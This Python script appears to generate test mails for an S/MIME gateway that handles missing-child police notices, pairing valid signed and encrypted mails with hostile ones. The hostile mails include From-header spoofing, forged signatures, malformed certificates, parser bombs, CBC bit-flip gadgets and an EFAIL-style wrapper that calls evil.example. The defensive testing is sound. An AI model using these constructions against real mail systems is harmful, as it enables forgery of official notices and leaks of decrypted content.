"""Mails whose signature is good, and mails that only look as if: made anew for each run.

    python3 hostile_mail.py FOLDER

FOLDER was made by certs-example/make. Writes FOLDER/mails/NAME.eml and FOLDER/mails/list: name, tab, "good" or
"hostile", tab, words that the reason has to hold. Everybody writes to the gateway of staffordshire; the partner whom
others would like to be is staffordshire-police. Its key is used here only for what a partner could have sent itself.
"""
import base64
import os
import sys
import zlib

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "peers"))
import smime  # noqa: E402
from smime import Der, mail, multipart, multipart_signed, oid, pkcs7, text_entity  # noqa: E402

US = "staffordshire/smime"
PARTNER = "staffordshire-police/smime"
OTHER = "derbyshire/smime"
FROM = "missing@staffordshire-police.example"
OTHER_FROM = "front-door@derbyshire.example"
MAIL_EXT = "basicConstraints=critical,CA:FALSE\nkeyUsage=critical,digitalSignature\nextendedKeyUsage=emailProtection\n"
SIGNED_DATA, DATA = "1.2.840.113549.1.7.2", "1.2.840.113549.1.7.1"


def report(reference):
    """One that makes a notice, if only its sender were known; names in letters, another child each time."""
    name = "".join(chr(ord("q") + int(c) % 8) if c.isdigit() else c.lower() for c in reference if c.isalnum())
    return ("Police incident number: SP-26-%s\nForce: Staffordshire Police\nRisk level: High\n"
            "Full name: Tess%s Canaryname%s\nDate of birth: 07/08/2012\nLooked after child: Yes\n"
            "Placing authority: Derbyshire\nHost authority: Staffordshire\nWhen last seen: 21/11/2026 at 19:30\n"
            "Where last seen: Canarystreet bus stop\nCircumstances of going missing: Left after tea\n"
            % (reference, name, name))


class Maker:
    def __init__(self, folder):
        self.ssl = smime.OpenSsl(folder)
        self.out = os.path.join(folder, "mails")
        os.makedirs(self.out)
        self.list = []

    def add(self, name, kind, data, words=""):
        with open(os.path.join(self.out, name + ".eml"), "wb") as f:
            f.write(data)
        self.list.append("%s\t%s\t%s\n" % (name, kind, words))

    def good(self, name, make):
        self.add(name, "good", make(text_entity(report(name))))

    def bad(self, name, words, make):
        self.add(name, "hostile", make(text_entity(report(name))), words)

    def cert(self, name, extensions, subject="/O=wardgate EXAMPLE/CN=Robin Specimen", **how):
        return self.ssl.issue("bad/" + name, subject, extensions, **how)

    # opaque signed by pair, as a mail
    def signed(self, entity, pair=PARTNER, sender=FROM, extra="", more=()):
        return mail(sender, pkcs7(self.ssl.sign(entity, pair, *more)), extra)

    def clear(self, entity, pair=PARTNER, sender=FROM, **how):
        return mail(sender, multipart_signed(entity, self.ssl.sign(entity, pair, detached=True), **how))

    def sealed(self, inner, sender=FROM, *how):
        return mail(sender, pkcs7(self.ssl.encrypt(inner, US, *how), "enveloped-data"))


# ---- objects that openssl does not make

def signer_infos(cms):
    return cms[1][0].content[-1]


def flipped(der, at):
    changed = bytearray(der)
    changed[at] ^= 1
    return bytes(changed)


def two_signers(m, entity, second_broken):
    cms = Der.parse(m.ssl.sign(entity, PARTNER))
    other = Der.parse(m.ssl.sign(entity, OTHER))
    info = signer_infos(other)[0]
    if second_broken:
        info.content[-1] = Der(0x04, flipped(info[-1].content, 20)) if info[-1].tag == 0x04 else info[-1]
    signer_infos(cms).content.append(info)
    certificates = [c for c in cms[1][0].content if c.tag == 0xA0][0]
    certificates.content += [c for c in other[1][0].content if c.tag == 0xA0][0].content
    return cms.bytes()


def without_attribute(m, entity, kind):
    """Signed attributes without one of them, and the signature made anew by the partner's own key."""
    cms = Der.parse(m.ssl.sign(entity, PARTNER))
    info = signer_infos(cms)[0]
    attributes = [c for c in info.content if c.tag == 0xA0][0]
    attributes.content = [a for a in attributes.content if a[0].content != oid(kind).content]
    signed = Der(0x31, attributes.content).bytes()
    new = smime.run("openssl", "dgst", "-sha256", "-sign", m.ssl.path(PARTNER + ".key"), m.ssl.put(signed))
    for i, c in enumerate(info.content):
        if c.tag == 0x04:
            info.content[i] = Der(0x04, new)
    return cms.bytes()


def no_signers(m, entity):
    cms = Der.parse(m.ssl.sign(entity, PARTNER))
    signer_infos(cms).content = []
    return cms.bytes()


def huge_signature(m, entity):
    cms = Der.parse(m.ssl.sign(entity, PARTNER))
    info = signer_infos(cms)[0]
    for i, c in enumerate(info.content):
        if c.tag == 0x04:
            info.content[i] = Der(0x04, b"\x41" * 1000000)
    return cms.bytes()


def with_content(der, content):
    cms = Der.parse(der)
    cms[1][0].content[2] = Der(0x30, [oid(DATA), Der(0xA0, [Der(0x04, content)])])
    return cms.bytes()


def compressed(content):
    """RFC 3274, made by hand."""
    body = Der(0x30, [Der(0x02, b"\x00"), Der(0x30, [oid("1.2.840.113549.1.9.16.3.8")]),
                      Der(0x30, [oid(DATA), Der(0xA0, [Der(0x04, zlib.compress(content, 9))])])])
    return Der(0x30, [oid("1.2.840.113549.1.9.16.1.9"), Der(0xA0, [body])]).bytes()


def cbc_gadget(m, der, block):
    """One block of the ciphertext changed: the one after it decrypts to chosen bytes, and nothing notices."""
    at = len(der) - 16 * block
    return flipped(der, at)


# ---- the table

def senders(m):
    m.bad("other-partner-as-from", "From names an address", lambda e: m.signed(e, OTHER, FROM))
    m.bad("two-from", "does not say once", lambda e: m.signed(e, extra="From: %s\r\n" % OTHER_FROM))
    m.bad("two-from-other-first", "does not say once",
          lambda e: m.signed(e, OTHER, OTHER_FROM, extra="From: %s\r\n" % FROM))
    m.bad("from-twice-in-one", "does not say once",
          lambda e: m.signed(e, OTHER, "%s, %s" % (FROM, OTHER_FROM)))
    m.bad("from-group", "does not say once", lambda e: m.signed(e, OTHER, "police: %s;" % OTHER_FROM))
    m.bad("from-comment", "does not say once", lambda e: m.signed(e, OTHER, "%s (%s)" % (OTHER_FROM, FROM)))
    m.bad("no-from", "does not say once", lambda e: m.signed(e, sender=None))
    m.bad("display-name", "shows one address",
          lambda e: m.signed(e, OTHER, "\"%s\" <%s>" % (FROM, OTHER_FROM)))
    m.bad("display-name-encoded", "shows one address",
          lambda e: m.signed(e, OTHER, "=?utf-8?Q?missing=40staffordshire-police.example?= <%s>" % OTHER_FROM))
    m.bad("display-name-encoded-first", "shows one address",
          lambda e: m.signed(e, OTHER, "=?utf-8?Q?=6Dissing=40staffordshire-police.example?= <%s>" % OTHER_FROM))
    m.bad("display-name-base64", "shows one address",
          lambda e: m.signed(e, OTHER, "=?utf-8?B?%s?= <%s>" % (base64.b64encode(FROM.encode()).decode(), OTHER_FROM)))
    m.bad("sender", "Sender is somebody else", lambda e: m.signed(e, OTHER, OTHER_FROM, "Sender: %s\r\n" % FROM))
    m.bad("nobody-signed", "nobody signed it", lambda e: mail(FROM, e))
    m.bad("reply-to", "nobody signed it", lambda e: mail(OTHER_FROM, e, "Reply-To: %s\r\n" % FROM))
    m.bad("own-from-inside", "passed on",
          lambda e: m.signed(b"From: " + FROM.encode() + b"\r\n" + e, OTHER, OTHER_FROM))
    m.bad("message-rfc822", "passed on",
          lambda e: m.signed(b"Content-Type: message/rfc822\r\n\r\n" + mail(FROM, e), OTHER, OTHER_FROM))
    m.bad("partners-mail-attached", "nobody signed it as a whole",
          lambda e: mail(FROM, b"Content-Type: message/rfc822\r\n\r\n" + m.signed(e)))


def signatures(m):
    m.bad("two-signers", "more than one signature", lambda e: mail(FROM, pkcs7(two_signers(m, e, False))))
    m.bad("one-valid-one-broken", "more than one signature", lambda e: mail(FROM, pkcs7(two_signers(m, e, True))))
    m.bad("no-signers", "no signature", lambda e: mail(FROM, pkcs7(no_signers(m, e))))
    m.bad("certs-only", "no signature",
          lambda e: mail(FROM, pkcs7(smime.run("openssl", "crl2pkcs7", "-nocrl", "-certfile",
                                               m.ssl.path(PARTNER + ".pem"), "-outform", "DER"), "certs-only")))
    m.bad("no-content", "nothing that was signed",
          lambda e: mail(FROM, pkcs7(m.ssl.sign(e, PARTNER, detached=True))))
    m.bad("other-content", "does not fit",
          lambda e: mail(FROM, multipart_signed(e, m.ssl.sign(e + b"more", PARTNER, detached=True))))
    m.bad("content-changed", "does not fit", lambda e: mail(FROM, pkcs7(m.ssl.sign(e, PARTNER).replace(
        b"Left after tea", b"Left after TEA"))))
    m.bad("content-inside-and-beside", "content of its own",
          lambda e: mail(FROM, multipart_signed(e, m.ssl.sign(e, PARTNER))))
    m.bad("other-content-inside", "content of its own",
          lambda e: mail(FROM, multipart_signed(e, with_content(m.ssl.sign(e, PARTNER, detached=True), b"other"))))
    m.bad("no-message-digest", "does not fit",
          lambda e: mail(FROM, pkcs7(without_attribute(m, e, "1.2.840.113549.1.9.4"))))
    m.bad("no-content-type", "does not fit",
          lambda e: mail(FROM, pkcs7(without_attribute(m, e, "1.2.840.113549.1.9.3"))))
    m.bad("no-signed-attributes", "no signed attributes", lambda e: m.signed(e, more=("-noattr",)))
    m.bad("md5", "no longer safe", lambda e: m.signed(e, more=("-md", "md5")))
    m.bad("sha1", "no longer safe", lambda e: m.signed(e, more=("-md", "sha1")))
    m.bad("no-certificate", "does not fit", lambda e: m.signed(e, more=("-nocerts",)))
    m.bad("other-type-inside", "not of the type",
          lambda e: m.signed(e, more=("-econtent_type", "1.2.840.113549.1.9.16.1.4")))
    m.bad("huge-signature", "larger than any", lambda e: mail(FROM, pkcs7(huge_signature(m, e))))
    m.bad("truncated", "could not be opened", lambda e: mail(FROM, pkcs7(m.ssl.sign(e, PARTNER)[:-200])))
    m.bad("bytes-behind", "could not be opened",
          lambda e: mail(FROM, pkcs7(m.ssl.sign(e, PARTNER) + m.ssl.sign(e + b"2", OTHER))))
    m.bad("indefinite-depth", "could not be opened", lambda e: mail(FROM, pkcs7(b"\x30\x80" * 100000)))
    m.bad("indefinite-never-ends", "could not be opened",
          lambda e: mail(FROM, pkcs7(b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0\x80" + b"\x24\x80" * 500)))
    m.bad("length-of-gigabytes", "could not be opened",
          lambda e: mail(FROM, pkcs7(b"\x30\x84\x7f\xff\xff\xff" + m.ssl.sign(e, PARTNER)[4:])))


def certificates(m):
    def by(pair, words, sender=FROM, name=None):
        m.bad(name or pair.split("/")[1], words, lambda e: m.signed(e, pair, sender))

    by("hostile/expired-smime", "expired", OTHER_FROM)
    by("hostile/unknown-ca-smime", "no organisation of the directory", OTHER_FROM)
    by("hostile/revoked-smime", "revoked", OTHER_FROM)
    by("hostile/no-eku-smime", "not made for signing", OTHER_FROM)
    mine = "subjectAltName=email:%s\n" % FROM
    by(m.cert("not-yet-valid", MAIL_EXT + mine, dates=("-startdate", "20400101000000Z", "-enddate", "20410101000000Z")),
       "not valid yet")
    by(m.cert("tls-server", MAIL_EXT.replace("emailProtection", "serverAuth") + mine), "not made for signing")
    by(m.cert("encrypts-only", MAIL_EXT.replace("digitalSignature", "keyEncipherment") + mine), "not made for signing")
    by(m.cert("authority-signs", "basicConstraints=critical,CA:TRUE\nkeyUsage=critical,digitalSignature,keyCertSign\n"
              "extendedKeyUsage=emailProtection\n" + mine), "authority's certificate")
    by("ca", "authority's certificate", name="the-authority-itself")
    by(m.cert("self-signed", MAIL_EXT + mine, self_signed=True), "no organisation of the directory")
    m.cert("under-a-leaf", MAIL_EXT + mine, ca=PARTNER)
    m.bad("under-a-leaf", "no organisation of the directory",
          lambda e: m.signed(e, "bad/under-a-leaf", more=("-certfile", m.ssl.path(PARTNER + ".pem"))))
    by(m.cert("two-organisations", MAIL_EXT + "subjectAltName=email:%s,email:%s\n" % (OTHER_FROM, FROM)),
       "several organisations")
    by(m.cert("address-in-subject", MAIL_EXT, subject="/O=wardgate EXAMPLE/CN=Robin/emailAddress=%s" % FROM),
       "belongs to nobody")
    by(m.cert("nobody-known", MAIL_EXT + "subjectAltName=email:robin@elsewhere.example\n"), "belongs to nobody",
       "robin@elsewhere.example")
    by(m.cert("dns-name-only", MAIL_EXT + "subjectAltName=DNS:staffordshire-police.example\n"), "belongs to nobody")
    by(m.cert("domain-only", MAIL_EXT + "subjectAltName=email:staffordshire-police.example\n"), "belongs to nobody")
    by(m.cert("subdomain", MAIL_EXT + "subjectAltName=email:missing@evil.staffordshire-police.example\n"),
       "belongs to nobody", "missing@evil.staffordshire-police.example")
    by(m.cert("longer-domain", MAIL_EXT + "subjectAltName=email:missing@notstaffordshire-police.example\n"),
       "belongs to nobody", "missing@notstaffordshire-police.example")
    by(m.cert("wildcard", MAIL_EXT + "subjectAltName=email:*@staffordshire-police.example\n"), "belongs to nobody")
    for name, address in (("nul-in-address", FROM.encode() + b"\0.evil.example"),
                          ("homograph", "missing@st\u0430ffordshire-police.example".encode()),
                          ("blank-in-address", b"missing@staffordshire-police.example evil@x.example")):
        names = Der(0x30, [Der(0x81, address)]).bytes()
        by(m.cert(name, MAIL_EXT + "subjectAltName=DER:%s\n" % ":".join("%02x" % c for c in names)), "are not names")


def shapes(m):
    def part(e, **how):
        return multipart_signed(e, m.ssl.sign(e, PARTNER, detached=True), **how)

    other = text_entity(report("shape-other"))
    m.bad("part-of-mixed", "as a whole", lambda e: mail(FROM, multipart("mixed", [e, part(other)])))
    m.bad("part-of-alternative", "as a whole",
          lambda e: mail(FROM, multipart("alternative", [part(other), b"Content-Type: text/html\r\n\r\n<p>"
                                                         + e.split(b"\r\n\r\n", 1)[1] + b"</p>"])))
    m.bad("signed-then-text", "as a whole", lambda e: mail(FROM, multipart("mixed", [part(other), e])))
    m.bad("signed-attachment", "as a whole",
          lambda e: mail(FROM, multipart("mixed", [e, pkcs7(m.ssl.sign(other, PARTNER))])))
    m.bad("preamble", "stands around", lambda e: mail(FROM, part(other, preamble=e.split(b"\r\n\r\n", 1)[1])))
    m.bad("epilogue", "stands around", lambda e: mail(FROM, part(other, epilogue=e.split(b"\r\n\r\n", 1)[1])))
    m.bad("second-part-is-text", "no signature",
          lambda e: mail(FROM, multipart_signed(other, b"", second=e)))
    m.bad("three-parts", "not of two parts", lambda e: mail(FROM, part(other, more=b"--sig1\r\n" + e + b"\r\n")))
    m.bad("one-part", "not of two parts", lambda e: mail(FROM, (
        b"Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=sig1\r\n\r\n"
        b"--sig1\r\n" + e + b"\r\n--sig1--\r\n")))
    m.bad("boundary-twice", "not how", lambda e: mail(FROM, part(
        e, head="Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=sig1; boundary=x\r\n")))
    m.bad("boundary-in-pieces", "not how", lambda e: mail(FROM, part(
        e, head="Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary*0=si; boundary*1=g1\r\n")))
    m.bad("two-content-types", "as a whole", lambda e: mail(
        FROM, b"Content-Type: multipart/mixed; boundary=sig1\r\n" + part(e)))
    m.bad("called-pgp", "as a whole", lambda e: mail(FROM, part(
        e, head="Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=sig1\r\n")))
    m.bad("encoding-twice", "could not be opened", lambda e: mail(FROM, pkcs7(m.ssl.sign(e, PARTNER)).replace(
        b"\r\n\r\n", b"\r\nContent-Transfer-Encoding: 7bit\r\n\r\n", 1)))
    m.bad("text-behind-base64", "could not be opened",
          lambda e: mail(FROM, pkcs7(m.ssl.sign(other, PARTNER)) + b"\r\n" + e))


def encryption(m):
    def inside(e):
        return pkcs7(m.ssl.sign(e, PARTNER))

    m.bad("efail-direct", "as a whole", lambda e: mail(FROM, multipart("mixed", [
        b"Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/", pkcs7(m.ssl.encrypt(e, US), "enveloped-data"),
        b"Content-Type: text/html\r\n\r\n\">"])))
    m.bad("cbc-gadget-signed", "", lambda e: mail(FROM, pkcs7(
        cbc_gadget(m, m.ssl.encrypt(inside(e), US, "-aes256"), 40), "enveloped-data")))
    m.bad("cbc-gadget-signed-front", "", lambda e: mail(FROM, pkcs7(
        flipped(m.ssl.encrypt(inside(e), US, "-aes256"), 700), "enveloped-data")))
    m.bad("cbc-gadget-unsigned", "nobody signed it", lambda e: mail(FROM, pkcs7(
        cbc_gadget(m, m.ssl.encrypt(e, US, "-aes256"), 6), "enveloped-data")))
    m.bad("gcm-flipped", "could not be opened", lambda e: mail(FROM, pkcs7(
        flipped(m.ssl.encrypt(inside(e), US, "-aes-256-gcm"), -200), "authEnveloped-data")))
    m.bad("encrypted-unsigned", "nobody signed it", lambda e: m.sealed(e))
    m.bad("encrypted-unsigned-gcm", "nobody signed it", lambda e: m.sealed(e, FROM, "-aes-256-gcm"))
    m.bad("encrypted-for-another", "could not be opened",
          lambda e: mail(FROM, pkcs7(m.ssl.encrypt(inside(e), OTHER), "enveloped-data")))
    m.bad("encrypted-twice", "several times over",
          lambda e: m.sealed(pkcs7(m.ssl.encrypt(inside(e), US), "enveloped-data")))
    m.bad("signature-over-ciphertext", "encrypted already",
          lambda e: m.signed(pkcs7(m.ssl.encrypt(e, US), "enveloped-data")))
    m.bad("triple-by-two", "two different certificates",
          lambda e: m.signed(pkcs7(m.ssl.encrypt(inside(e), US), "enveloped-data"), OTHER, OTHER_FROM))
    m.bad("signed-twice", "several times over", lambda e: m.signed(inside(e)))
    m.bad("five-layers", "", lambda e: m.signed(pkcs7(m.ssl.encrypt(pkcs7(m.ssl.sign(pkcs7(m.ssl.encrypt(
        inside(e), US), "enveloped-data"), PARTNER)), US), "enveloped-data")))
    m.bad("forged-inside", "does not fit", lambda e: m.sealed(pkcs7(m.ssl.sign(e, PARTNER).replace(
        b"Left after tea", b"Left after TEA"))))
    m.bad("sealed-by-other-partner", "From names an address", lambda e: m.sealed(pkcs7(m.ssl.sign(e, OTHER))))
    bomb = b"A" * (64 << 20)
    m.bad("compressed-bomb", "compressed", lambda e: mail(FROM, pkcs7(compressed(bomb), "compressed-data")))
    m.bad("compressed-bomb-signed", "compressed", lambda e: m.signed(pkcs7(compressed(bomb), "compressed-data")))
    m.bad("compressed-inside", "compressed", lambda e: m.sealed(pkcs7(compressed(inside(e)), "compressed-data")))


def good(m):
    def inside(e, *more):
        return pkcs7(m.ssl.sign(e, PARTNER, *more))

    m.good("good-opaque-sealed", lambda e: m.sealed(inside(e)))
    m.good("good-clear-sealed", lambda e: m.sealed(multipart_signed(e, m.ssl.sign(e, PARTNER, detached=True))))
    m.good("good-clear", lambda e: m.clear(e, preamble=b"This is an S/MIME signed message\r\n"))
    m.good("good-opaque", lambda e: m.signed(e))
    m.good("good-pss", lambda e: m.sealed(inside(e, "-keyopt", "rsa_padding_mode:pss")))
    m.cert("good-ec", MAIL_EXT + "subjectAltName=email:%s\n" % FROM, key="ec")
    m.good("good-ecdsa", lambda e: m.sealed(pkcs7(m.ssl.sign(e, "bad/good-ec"))))
    m.good("good-sha512", lambda e: m.sealed(inside(e, "-md", "sha512")))
    m.good("good-gcm-oaep", lambda e: mail(FROM, pkcs7(m.ssl.encrypt_oaep(inside(e), US), "authEnveloped-data")))
    m.good("good-triple", lambda e: m.signed(pkcs7(m.ssl.encrypt(inside(e), US), "enveloped-data")))
    m.good("good-streamed", lambda e: m.sealed(inside(e, "-stream")))
    m.good("good-old-type", lambda e: mail(FROM, pkcs7(m.ssl.sign(e, PARTNER), old=True)))
    m.good("good-display-name",
           lambda e: m.signed(e, sender="\"Missing, Desk\"\r\n <MISSING@Staffordshire-Police.EXAMPLE>"))
    m.good("good-bare-lf", lambda e: m.clear(e).replace(b"\r\n", b"\n"))
    m.cert("middle", "basicConstraints=critical,CA:TRUE\nkeyUsage=critical,keyCertSign\nsubjectKeyIdentifier=hash\n",
           subject="/O=wardgate EXAMPLE/CN=Middle")
    m.cert("below", MAIL_EXT + "subjectAltName=email:%s\n" % FROM, ca="bad/middle")
    m.good("good-intermediate", lambda e: m.sealed(pkcs7(m.ssl.sign(
        e, "bad/below", "-certfile", m.ssl.path("bad/middle.pem")))))


def others(m, folder):
    """Made by programs that are not OpenSSL."""
    gpg, nss = smime.Gpgsm(folder, [PARTNER, US]), smime.Nss(folder, [PARTNER, US])
    bouncy = smime.Bouncy(folder, os.path.join(os.path.dirname(os.path.abspath(smime.__file__)), "SmimePeer.java"))
    try:
        m.good("good-gpgsm", lambda e: mail(FROM, pkcs7(gpg.encrypt(pkcs7(gpg.sign(e, PARTNER)), US),
                                                        "enveloped-data")))
        m.good("good-gpgsm-clear", lambda e: mail(FROM, multipart_signed(e, gpg.sign(e, PARTNER, detached=True))))
    finally:
        gpg.close()
    m.good("good-nss", lambda e: mail(FROM, pkcs7(nss.encrypt(pkcs7(nss.sign(e, PARTNER)), US), "enveloped-data")))

    def by_bouncy(e):
        inner, der, outer = m.ssl.put(e), m.ssl.path("bc-1"), m.ssl.path("bc-2")
        said = bouncy.batch([["sign", "SHA256withRSA", bouncy.pkcs8(PARTNER), m.ssl.path(PARTNER + ".pem"), inner, der]])
        entity = m.ssl.put(pkcs7(m.ssl.get("bc-1")))
        said += bouncy.batch([["encrypt", "gcm-oaep", m.ssl.path(US + ".pem"), entity, outer]])
        if said != ["ok", "ok"]:
            raise RuntimeError(str(said))
        return mail(FROM, pkcs7(m.ssl.get("bc-2"), "authEnveloped-data"))

    m.good("good-bouncycastle", by_bouncy)


def main():
    folder = sys.argv[1]
    m = Maker(folder)
    for make in (good, senders, signatures, certificates, shapes, encryption):
        make(m)
    others(m, folder)
    with open(os.path.join(m.out, "list"), "w") as f:
        f.write("".join(m.list))


if __name__ == "__main__":
    main()
